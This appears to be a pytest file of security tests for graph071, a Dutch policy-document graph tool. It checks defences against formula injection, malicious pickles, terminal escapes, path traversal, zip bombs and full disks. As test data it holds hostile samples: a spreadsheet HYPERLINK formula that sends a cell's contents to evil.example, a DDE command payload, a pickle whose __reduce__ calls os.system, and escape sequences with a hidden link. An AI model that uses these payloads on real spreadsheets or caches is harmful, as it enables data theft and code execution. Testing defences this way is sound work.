"""Hostile files and failing disks: nothing runs, nothing is lost, nothing is read silently wrong.

Each test is one attack from issue 17, done for real: formulas in names, a planted
pickle in the cache, escape sequences in a cell, "../" in the manifest, a stale
<dimension>, a zip bomb, a full disk. graph071 must answer right, or say in one line
what is wrong and exit 1.
"""

from __future__ import annotations

import csv
import json
import os
import pickle
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import networkx as nx
import pytest
from openpyxl import Workbook, load_workbook

from graph071.build import cache, snapshot
from graph071.build.pipeline import build
from graph071.corpus.manifest import bundled_data_dir
from graph071.corpus.sheets import SheetError
from graph071.io.export import export
from graph071.io.safe import (FORMULA_START, atomic_file, keep_as_text, spreadsheet_cell,
                              terminal_text, write_text)
from graph071.io.templates import write_template

from .conftest import graph071, programme_corpus

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0",
            "+31 71 000", "-2+3", "@SUM(A1:A2)"]
ESCAPES = "Boze\x1b]0;pwned\x07 BV\x1b[2J\x1b[8mverborgen\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
HEADER = ["programme", "number", "title", "theme", "theme_name", "trekkers", "partners"]


def list_corpus(tmp_path: Path, rows: list[list], *, name: str = "acties.csv",
                header: list[str] = HEADER) -> Path:
    """A corpus of one list of actions (`name`: .csv or .xlsx) with the bundled organisations."""
    folder = tmp_path / "corpus"
    (folder / "documents").mkdir(parents=True)
    shutil.copy(bundled_data_dir() / "organisations.csv", folder)
    (folder / "manifest.csv").write_text(
        "file,id,title,publisher,edition,kind,loader\n"
        f"documents/{name},acties-2024,Acties,Economie071,2024-03,actions,spreadsheet_actions\n",
        encoding="utf-8")
    path = folder / "documents" / name
    if name.endswith(".csv"):
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows([header, *rows])
    else:
        workbook = Workbook()
        sheet = workbook.active
        sheet.title = "acties"
        for row in [header, *rows]:
            sheet.append(row)
            for cell in sheet[sheet.max_row]:
                keep_as_text(cell)  # a name that starts with "=" is text, as a user typed it
        workbook.save(path)
    return folder


def hostile_corpus(tmp_path: Path) -> Path:
    rows = [["2024-2026", i + 1, formula, 1, "Thema", formula if i % 2 else "?", "UvL"]
            for i, formula in enumerate(FORMULAS)]
    rows.append(["2024-2026", 9, ESCAPES, 1, "Thema", ESCAPES, ""])
    rows.append(["2024-2026", 10, "Zonder trekker " + ESCAPES, 1, "Thema", "?", ""])
    return list_corpus(tmp_path, rows)


def one_line_error(result: subprocess.CompletedProcess, *fragments: str) -> str:
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    assert result.stderr.strip().count("\n") == 0, result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, result.stderr
    return result.stderr


def every_cell(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_spreadsheet_safe(cells: list[str]) -> None:
    dangerous = [c for c in cells if c.startswith(FORMULA_START)]
    assert not dangerous, dangerous


# ---------------------------------------------------------------- 1. spreadsheet-safe output

def test_exported_csv_tables_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path):
    graph = build(hostile_corpus(tmp_path)).graph
    written = export(graph, tmp_path / "x.csv")
    cells = [cell for path in written for cell in every_cell(path)]
    assert_spreadsheet_safe(cells)
    assert "'" + FORMULAS[1] in cells  # neutralised, not dropped: the name is still there


def test_orphans_and_hubs_csv_are_spreadsheet_safe(tmp_path):
    folder = hostile_corpus(tmp_path)
    for command in (["orphans", "--csv"], ["hubs", "--csv", "--top", "50"]):
        result = graph071("--data", str(folder), *command, check=True)
        cells = dutch_csv_cells(result.stdout)  # --csv is for Dutch Excel: ';' and a BOM
        assert_spreadsheet_safe(cells)
        assert "\x1b" not in result.stdout
    orphans = graph071("--data", str(folder), "orphans", "--csv", check=True).stdout
    assert "'" + FORMULAS[0] in dutch_csv_cells(orphans)


def dutch_csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(text.lstrip("\ufeff").splitlines(), delimiter=";") for c in row]


def test_a_workbook_graph071_writes_holds_text_never_a_formula(tmp_path):
    from graph071.corpus.sheets import Column
    from graph071.io.templates import write_sheet

    columns = [Column("name", "a name"), Column("note", "a note")]
    path = write_sheet(tmp_path / "lijst.xlsx", columns,
                       [{"name": f, "note": f} for f in FORMULAS], "acties")
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert FORMULAS[0] in [cell.value for cell in cells]  # kept as the user wrote it
    write_template("actions", tmp_path / "sjabloon.xlsx")
    template = load_workbook(tmp_path / "sjabloon.xlsx")
    assert all(c.data_type != "f" for s in template.worksheets for r in s.iter_rows() for c in r)


def test_a_neutralised_csv_reads_back_as_written(tmp_path):
    rows = [["2024-2026", 1, FORMULAS[0], 1, "Thema", "gemeente Leiden", ""]]
    folder = list_corpus(tmp_path, [[spreadsheet_cell(v) for v in row] for row in rows])
    assert build(folder).graph.nodes["action:2024-2026/1"]["title"] == FORMULAS[0]


# ---------------------------------------------------------------- 2. a cache that cannot run code

@pytest.fixture
def cached_corpus(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.delenv("GRAPH071_NO_CACHE", raising=False)
    return programme_corpus(tmp_path / "corpus")


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_a_pickle_planted_in_the_cache_never_runs(cached_corpus, tmp_path):
    marker = tmp_path / "pwned"
    key = cache.cache_key(cached_corpus)
    cache.cache_dir().mkdir(parents=True)
    for name in (f"{key}.pickle", f"{key}{cache.SUFFIX}"):
        (cache.cache_dir() / name).write_bytes(pickle.dumps(_Payload(marker)))
    result = cache.cached_build(cached_corpus)
    assert not marker.exists()
    assert result.graph.number_of_nodes() == build(cached_corpus).graph.number_of_nodes()


def test_a_cached_build_is_json_and_gives_exactly_the_fresh_build(bundled):
    copy = snapshot.loads(snapshot.dumps(bundled))
    json.loads(snapshot.dumps(bundled))  # data only
    g, h = bundled.graph, copy.graph
    assert list(g.nodes(data=True)) == list(h.nodes(data=True))
    assert list(g.edges(keys=True, data=True)) == list(h.edges(keys=True, data=True))
    assert all(list(g.in_edges(n, keys=True, data=True)) == list(h.in_edges(n, keys=True, data=True))
               for n in g)
    assert g.graph == h.graph
    assert (copy.data_dir, copy.documents, copy.warnings, copy.unresolved) == \
        (bundled.data_dir, bundled.documents, bundled.warnings, bundled.unresolved)
    assert copy.organisations.organisations == bundled.organisations.organisations


@pytest.mark.parametrize("damage", ["flip", "truncate", "empty", "not_json", "foreign_record",
                                    "wrong_format", "deep"])
def test_any_damaged_cache_entry_is_rebuilt(cached_corpus, damage):
    fresh = cache.cached_build(cached_corpus)
    (path,) = cache.cache_dir().glob(f"*{cache.SUFFIX}")
    data = path.read_bytes()
    damaged = {
        "flip": data[:len(data) // 2] + bytes([data[len(data) // 2] ^ 0x55]) + data[len(data) // 2 + 1:],
        "truncate": data[:len(data) // 3],
        "empty": b"",
        "not_json": b"\x80\x04K\x01.",
        "foreign_record": data.replace(b'"$record":"Mention"', b'"$record":"Popen"'),
        "wrong_format": data.replace(b'"format":1', b'"format":99', 1),
        "deep": b"[" * 100_000 + b"]" * 100_000,
    }[damage]
    path.write_bytes(damaged)
    again = cache.cached_build(cached_corpus)
    assert sorted(again.graph.nodes) == sorted(fresh.graph.nodes)
    assert snapshot.loads(path.read_bytes()).graph.number_of_nodes() == fresh.graph.number_of_nodes()


def _foreign_owned(path: Path) -> Path:
    """Return a path owned by another user: `path` given away (as root) or the root folder."""
    if os.getuid() == 0:
        os.chown(path, 4242, 4242)
        return path
    return Path("/")


def test_a_cache_folder_writable_by_others_or_owned_by_another_user_is_not_used(cached_corpus):
    cache.cached_build(cached_corpus)
    folder = cache.cache_dir()
    folder.chmod(0o777)
    result = cache.cached_build(cached_corpus)
    assert any("bouwcache niet gebruikt" in w.message and "beschrijfbaar voor andere gebruikers" in w.message
               for w in result.warnings)
    folder.chmod(0o700)
    assert cache.unsafe_reason(_foreign_owned(folder)).endswith(")")
    assert "andere gebruiker" in cache.unsafe_reason(_foreign_owned(folder))


def test_a_cache_file_of_another_user_is_not_read(cached_corpus):
    cache.cached_build(cached_corpus)
    (path,) = cache.cache_dir().glob(f"*{cache.SUFFIX}")
    path.chmod(0o666)
    assert "beschrijfbaar voor andere gebruikers" in cache.unsafe_reason(path)
    assert cache._read(path) is None  # noqa: SLF001 - the reader itself refuses it too
    path.chmod(0o600)
    assert cache._read(path) is not None  # noqa: SLF001


def test_the_key_is_the_content_even_with_the_same_size_and_time(cached_corpus):
    before = cache.cached_build(cached_corpus)
    document = next((cached_corpus / "documents").iterdir())
    info = document.stat()
    text = document.read_text(encoding="utf-8")
    document.write_text(text.replace("Trekker: onbekend", "Trekker: LUMC    ", 1), encoding="utf-8")
    os.utime(document, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert document.stat().st_size == info.st_size
    after = cache.cached_build(cached_corpus)
    assert len(after.graph.edges) != len(before.graph.edges) or after.graph.nodes != before.graph.nodes


# ---------------------------------------------------------------- 3. containment

def _manifest_row(folder: Path, file: str) -> None:
    (folder / "manifest.csv").write_text(
        "file,id,title,publisher,edition,kind,loader\n"
        f"{file},up,Test,Test,2013-10,action_programme,action_programme_2013\n", encoding="utf-8")


def test_a_manifest_path_outside_the_corpus_is_refused_naming_the_row(tmp_path):
    folder = programme_corpus(tmp_path / "corpus")
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(next((folder / "documents").iterdir()), outside / "x.txt")
    for file in ("../outside/x.txt", str(outside / "x.txt")):
        _manifest_row(folder, file)
        one_line_error(graph071("--data", str(folder), "summary"), "manifest.csv:2",
                       "ligt buiten de corpusmap")


def test_a_symlink_that_leaves_the_corpus_is_refused(tmp_path):
    folder = programme_corpus(tmp_path / "corpus")
    elsewhere = tmp_path / "elsewhere"
    (folder / "documents").rename(elsewhere)
    (folder / "documents").symlink_to(elsewhere, target_is_directory=True)
    one_line_error(graph071("--data", str(folder), "summary"), "manifest.csv:2",
                   "ligt buiten de corpusmap", "symbolische koppeling")


def test_an_absolute_path_inside_the_corpus_works_in_every_loader(tmp_path):
    source = bundled_data_dir()
    folder = tmp_path / "corpus"
    shutil.copytree(source, folder, ignore=shutil.ignore_patterns("__pycache__", "*.py"))
    manifest = (folder / "manifest.csv").read_text(encoding="utf-8")
    (folder / "manifest.csv").write_text(
        manifest.replace("documents/", str(folder / "documents") + "/"), encoding="utf-8")
    absolute = build(folder).graph
    assert sorted(absolute.nodes) == sorted(build(source).graph.nodes)


# ---------------------------------------------------------------- 4. no silent loss in spreadsheets

def test_an_excel_error_value_is_reported_by_cell_never_read_as_a_comment(tmp_path):
    rows = [["2024-2026", 1, "Eerste", 1, "Thema", "gemeente Leiden", ""],
            ["#N/A", 2, "Tweede", 1, "Thema", "#WAARDE!", ""]]
    for name in ("acties.csv", "acties.xlsx"):
        shutil.rmtree(tmp_path / "corpus", ignore_errors=True)
        with pytest.raises(SheetError) as caught:
            build(list_corpus(tmp_path, rows, name=name))
        problems = [str(p) for p in caught.value.problems]
        assert any("rij 3" in p and "(A)" in p or "rij 3" in p and "#N/A" in p for p in problems)
        assert any("#WAARDE!" in p for p in problems), problems


def test_an_error_value_a_formula_left_in_a_workbook_is_reported(tmp_path):
    folder = list_corpus(tmp_path, [["2024-2026", 1, "Eerste", 1, "Thema", "UvL", ""]],
                         name="acties.xlsx")
    path = folder / "documents" / "acties.xlsx"
    _rewrite_sheet(path, lambda xml: xml.replace(
        b'<c r="F2" t="inlineStr"><is><t>UvL</t></is></c>',
        b'<c r="F2" t="e"><f>VLOOKUP(A1,Z:Z,2)</f><v>#N/A</v></c>', 1))
    assert b'<v>#N/A</v>' in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    with pytest.raises(SheetError, match=r"rij 2, kolom 'trekkers' \(F\): de cel bevat de "
                                         r"Excel-foutwaarde #N/A"):
        build(folder)


def _rewrite_sheet(path: Path, change) -> None:
    """Rewrite xl/worksheets/sheet1.xml of the workbook at `path` through `change`."""
    with zipfile.ZipFile(path) as archive:
        items = {info.filename: archive.read(info) for info in archive.infolist()}
    items["xl/worksheets/sheet1.xml"] = change(items["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in items.items():
            archive.writestr(name, data)


def test_a_stale_dimension_does_not_hide_the_rows_after_it(tmp_path):
    rows = [["2024-2026", n, f"Actie {n}", 1, "Thema", "gemeente Leiden", ""] for n in range(1, 8)]
    folder = list_corpus(tmp_path, rows, name="acties.xlsx")
    path = folder / "documents" / "acties.xlsx"
    import re

    _rewrite_sheet(path, lambda xml: re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:G3"/>', xml))
    assert b'ref="A1:G3"' in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    actions = [n for n, d in build(folder).graph.nodes(data=True) if d["kind"] == "Action"]
    assert len(actions) == 7


def _workbook_corpus(tmp_path: Path, rows: list[list], prepare) -> Path:
    folder = list_corpus(tmp_path, rows, name="acties.xlsx")
    path = folder / "documents" / "acties.xlsx"
    workbook = load_workbook(path)
    prepare(workbook)
    workbook.save(path)
    return folder


def test_merged_trekker_cells_give_every_merged_row_its_trekker(tmp_path):
    rows = [["2024-2026", n, f"Actie {n}", 1, "Thema", "gemeente Leiden" if n == 1 else None, ""]
            for n in range(1, 4)]
    folder = _workbook_corpus(tmp_path, rows, lambda wb: wb.active.merge_cells("F2:F4"))
    graph = build(folder).graph
    for number in (1, 2, 3):
        trekkers = [s for s, _, d in graph.in_edges(f"action:2024-2026/{number}", data=True)
                    if d["kind"] == "TREKKER"]
        assert trekkers == ["org:gemeente-leiden"], number


def test_cells_merged_across_columns_are_refused_by_cell(tmp_path):
    rows = [["2024-2026", 1, "Actie 1", 1, "Thema", "gemeente Leiden", None]]
    folder = _workbook_corpus(tmp_path, rows, lambda wb: wb.active.merge_cells("F2:G2"))
    with pytest.raises(SheetError, match="cellen F2:G2 zijn over kolommen samengevoegd"):
        build(folder)


def test_hidden_rows_and_sheets_are_reported(tmp_path):
    rows = [["2024-2026", n, f"Actie {n}", 1, "Thema", "gemeente Leiden", ""] for n in range(1, 4)]

    def hide(workbook):
        workbook.active.row_dimensions[3].hidden = True
        workbook.create_sheet("geheim").sheet_state = "hidden"

    result = build(_workbook_corpus(tmp_path, rows, hide))
    messages = [w.message for w in result.warnings]
    assert any("verborgen rij(en) 3" in m for m in messages), messages
    assert any("verborgen blad(en)" in m and "'geheim'" in m for m in messages), messages
    assert "action:2024-2026/2" in result.graph  # read, and said so


def test_a_rename_onto_an_existing_name_is_refused_never_two_organisations_with_one_name(tmp_path):
    folder = programme_corpus(tmp_path / "corpus")
    (folder / "corrections.csv").write_text(
        "correction,subject,role,organisation,new_name,reason,date\n"
        "rename,Leiden Marketing,,,gemeente Leiden,test,2024-03-12\n", encoding="utf-8")
    result = build(folder)
    names = [d["name"] for _, d in result.graph.nodes(data=True) if d["kind"] == "Organisation"]
    assert names.count("gemeente Leiden") == 1
    assert any("is al de naam van" in w.message and "merge" in w.message for w in result.warnings)


# ---------------------------------------------------------------- 5. bounded resources

def _zip_bomb(path: Path, megabytes: int) -> Path:
    """A real .xlsx whose one sheet unpacks to `megabytes` MB of XML (a few hundred KB packed)."""
    folder = path.parent
    sample = list_corpus(folder / "sample", [["2024-2026", 1, "x", 1, "T", "UvL", ""]],
                         name="acties.xlsx") / "documents" / "acties.xlsx"
    with zipfile.ZipFile(sample) as archive:
        items = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in items.items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = b" " * (1024 * 1024)
            for _ in range(megabytes):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path):
    folder = list_corpus(tmp_path, [["2024-2026", 1, "x", 1, "T", "UvL", ""]], name="acties.xlsx")
    bomb = _zip_bomb(folder / "documents" / "acties.xlsx", 300)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    started = time.monotonic()
    message = one_line_error(graph071("--data", str(folder), "summary"),
                             "acties.xlsx", "uitgepakte werkmap", "GRAPH071_MAX_UNPACKED_MB")
    assert "300 MB" in message
    # Asked for by the issue ("refused within seconds"); generous, so a busy machine passes.
    assert time.monotonic() - started < 60


def test_the_size_limits_say_how_to_raise_them(tmp_path):
    folder = programme_corpus(tmp_path / "corpus")
    env = {**os.environ, "GRAPH071_MAX_DOCUMENT_MB": "0.01", "GRAPH071_NO_CACHE": "1"}
    one_line_error(graph071("--data", str(folder), "summary", env=env),
                   "meer dan de grens", "export GRAPH071_MAX_DOCUMENT_MB=")
    env["GRAPH071_MAX_DOCUMENT_MB"] = "1"
    assert graph071("--data", str(folder), "summary", env=env).returncode == 0


# ---------------------------------------------------------------- 6. safe outputs

@pytest.mark.parametrize("command", [["map", "-o", "{out}"], ["export", "{out}"],
                                     ["lineage", "Talent op Maat", "--map", "{out}"],
                                     ["index", "--plot", "{out}"]])
def test_writing_onto_a_folder_or_a_read_only_place_is_one_line(tmp_path, command):
    folder = tmp_path / "bestaand.html"
    folder.mkdir()
    if command[0] == "export":
        folder = folder.rename(tmp_path / "bestaand.json")
    if command[0] == "index":
        folder = folder.rename(tmp_path / "bestaand.png")
    for target, fragment in ((folder, "is een map"),
                             (Path("/sys") / folder.name, "kan hier niet schrijven")):
        args = [part.replace("{out}", str(target)) for part in command]
        result = graph071(*args)
        if result.returncode == 2:  # typer's own check of a path option (index --plot DIR)
            assert "Traceback" not in result.stderr and "is a directory" in result.stderr
            continue
        one_line_error(result, str(target), fragment)


def _limited(megabytes: float):
    def limit() -> None:  # in the child: a disk that takes no more than this per file
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        size = int(megabytes * 1024 * 1024)
        resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
    return limit


@pytest.mark.parametrize("name", ["graph.json", "graph.graphml", "kaart.html"])
def test_a_full_disk_leaves_the_previous_good_file_whole(tmp_path, name):
    target = tmp_path / name
    target.write_text("de vorige, goede versie\n", encoding="utf-8")
    command = ["map", "-o", str(target)] if name.endswith(".html") else ["export", str(target)]
    result = subprocess.run([sys.executable, "-m", "graph071", *command], capture_output=True,
                            text=True, preexec_fn=_limited(0.1), timeout=300)
    one_line_error(result, str(target), "de schijf is vol")
    assert target.read_text(encoding="utf-8") == "de vorige, goede versie\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # no temporary file left


def test_an_interrupted_write_leaves_the_old_file_and_no_temporary_file(tmp_path):
    target = write_text(tmp_path / "a.txt", "oud")
    with pytest.raises(KeyboardInterrupt):
        with atomic_file(target) as handle:
            handle.write("half")
            raise KeyboardInterrupt
    assert target.read_text() == "oud" and [p.name for p in tmp_path.iterdir()] == ["a.txt"]


def test_control_characters_in_names_leave_graphml_and_gexf_valid(tmp_path):
    graph = nx.MultiDiGraph()
    graph.add_node("org:a\x01", kind="Organisation", name="Boze\x00 BV\x1b[31m\x0b", aliases=["x\x1f"])
    graph.add_node("action:t/1", kind="Action", name="Actie\x07", number=1)
    graph.add_edge("org:a\x01", "action:t/1", key="TREKKER", kind="TREKKER", quote="a\x08b")
    for suffix, read in ((".graphml", nx.read_graphml), (".gexf", nx.read_gexf)):
        (path,) = export(graph, tmp_path / f"g{suffix}")
        back = read(path)
        assert back.number_of_nodes() == 2 and back.number_of_edges() == 1
        assert {d.get("name") or d.get("label") for _, d in back.nodes(data=True)} >= {"Boze BV"}


def test_terminal_output_carries_no_escape_sequence_from_the_data(tmp_path):
    folder = hostile_corpus(tmp_path)
    for command in (["orphans"], ["check"], ["who", "Boze"], ["action", "9"]):
        result = graph071("--data", str(folder), *command)
        assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout, command
    assert terminal_text(ESCAPES) == "Boze BVverborgenlink"


def test_an_unsupported_neo4j_uri_names_the_schemes_that_work():
    env = {**os.environ, "NEO4J_URI": "http://localhost:7474"}
    one_line_error(graph071("--source", "neo4j", "orphans", env=env),
                   "http://localhost:7474", "bolt://", "neo4j+s://")


# ---------------------------------------------------------------- 8. a bounded fuzz run

def test_fuzzed_documents_manifests_workbooks_and_cache_files_never_give_a_traceback(tmp_path):
    from .fuzz_corpus import FuzzRun

    # Bounded by count: on a busy machine 240 inputs did not fit in 50 s (80 were tried), so
    # the time bound is only a guard against a run that goes astray, never what ends it.
    run = FuzzRun(tmp_path, seed=17, inputs=160, seconds=900)
    figures = run.run()
    print(figures.summary())
    assert figures.tracebacks == [] and figures.hangs == []
    assert figures.tried == 160


@pytest.mark.neo4j
def test_neo4j_pull_onto_a_folder_is_one_line(tmp_path, neo4j_settings):
    folder = tmp_path / "graaf.json"
    folder.mkdir()
    env = {**os.environ, "NEO4J_URI": neo4j_settings["uri"], "NEO4J_USER": neo4j_settings["user"],
           "NEO4J_PASSWORD": neo4j_settings["password"],
           "NEO4J_DATABASE": neo4j_settings["database"]}
    one_line_error(graph071("neo4j", "pull", "-o", str(folder), env=env), str(folder),
                   "is een map")
